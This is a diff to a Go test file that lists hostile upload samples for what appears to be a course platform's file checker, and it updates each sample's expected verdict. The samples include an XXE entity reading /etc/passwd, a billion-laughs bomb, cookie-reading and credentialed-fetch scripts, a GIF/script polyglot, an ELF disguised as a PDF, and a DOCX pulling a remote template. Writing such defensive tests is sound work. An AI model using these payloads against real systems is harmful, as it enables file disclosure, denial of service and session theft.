@@ -21,18 +21,20 @@ func websites() []hostile {
 	manifest := func(xml string) func(*testing.T) []byte {
 		return packed(map[string]string{"imsmanifest.xml": xml, "index.html": script})
 	}
-	kept := func(number, what, file string, data func(*testing.T) []byte) hostile {
-		return hostile{number: number, what: what, file: file, data: data, want: "kept file.not-yet"}
+	row := func(number, what, file, want string, data func(*testing.T) []byte) hostile {
+		return hostile{number: number, what: what, file: file, data: data, want: want}
 	}
 	return []hostile{
-		kept("#12", "SCORM: an entity from a file", "scorm.zip", manifest(`<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest>&x;</manifest>`)),
-		kept("#13", "SCORM: a billion laughs", "scorm.zip", manifest(laughs())),
-		kept("#14", "SCORM: a manifest of 50 MB", "scorm.zip", manifest("<manifest>"+strings.Repeat("<resource href='javascript:alert(1)'/>", 1_400_000)+"</manifest>")),
-		kept("#15", "SCORM: a page that reads cookies", "scorm.zip", packed(map[string]string{"imsmanifest.xml": "<manifest/>", "index.html": "<script>parent.document.cookie</script>"})),
-		kept("#16", "a page that calls the API", "cours.html", plain("<!doctype html><script>fetch('/api/v1/me',{credentials:'include'})</script>")),
-		kept("#17", "a page that posts a score", "cours.xhtml", plain(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>top.postMessage({score:100},'*')</script></html>`)),
-		kept("#18", "an SVG with a script", "plan.svg", plain(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)),
-		kept("#19", "HTML called PNG", "plan.png", plain("<!doctype html>"+script)),
+		row("#12", "SCORM: an entity from a file", "scorm.zip", "failed archive.unsafe", manifest(`<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest>&x;</manifest>`)),
+		row("#13", "SCORM: a billion laughs", "scorm.zip", "failed archive.unsafe", manifest(laughs())),
+		row("#14", "SCORM: a manifest of 50 MB", "scorm.zip", "failed archive.too-large", manifest("<manifest>"+strings.Repeat("<resource href='javascript:alert(1)'/>", 1_400_000)+"</manifest>")),
+		row("#14", "SCORM: a manifest that leads to a script", "scorm.zip", "failed package.outside", manifest("<manifest><resources><resource href='javascript:alert(1)'/></resources></manifest>")),
+		row("#14", "SCORM: a manifest that leads to another site", "scorm.zip", "failed package.outside", manifest("<manifest><resources><resource href='http://192.0.2.1/x'/></resources></manifest>")),
+		row("#15", "SCORM: a page that reads cookies", "scorm.zip", "ready ", packed(map[string]string{"imsmanifest.xml": "<manifest/>", "index.html": "<script>parent.document.cookie</script>"})),
+		row("#16", "a page that calls the API", "cours.html", "ready ", plain("<!doctype html><script>fetch('/api/v1/me',{credentials:'include'})</script>")),
+		row("#17", "a page that posts a score", "cours.xhtml", "ready ", plain(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>top.postMessage({score:100},'*')</script></html>`)),
+		row("#18", "an SVG with a script", "plan.svg", "kept file.drawing", plain(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)),
+		row("#19", "HTML called PNG", "plan.png", "kept file.not-yet", plain("<!doctype html>"+script)),
 	}
 }
 
@@ -83,7 +85,7 @@ func documents() []hostile {
 		{number: "#22", what: "GIF that is a script", file: "logo.gif", want: "failed image.damaged", memory: pictures, data: plain("GIF89a/*\x00\x00\x00\x00\x00*/=1;alert(1)//;")},
 		{number: "#22", what: "HTML that is a PDF as well", file: "cours.pdf", want: "failed pdf.damaged", memory: pages, data: plain("<html>" + script + "%PDF-1.7")},
 		{number: "#22", what: "HTML called PDF", file: "cours.pdf", want: "kept file.not-yet", data: plain("<html>" + script)},
-		{number: "#22", what: "program called PDF", file: "cours.pdf", want: "kept file.not-yet", data: plain("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200))},
+		{number: "#22", what: "program called PDF", file: "cours.pdf", want: "kept file.program", data: plain("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200))},
 		office("DOCX with a template elsewhere", "cours.docx", "word/_rels/settings.xml.rels", `<Relationships><Relationship Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>`),
 		office("DOCX with a picture of the server", "cours.docx", "word/_rels/document.xml.rels", `<Relationships><Relationship Target="file:///etc/passwd" TargetMode="External"/></Relationships>`),
 		office("DOCM with a macro", "cours.docm", "word/vbaProject.bin", "Sub AutoOpen()"),
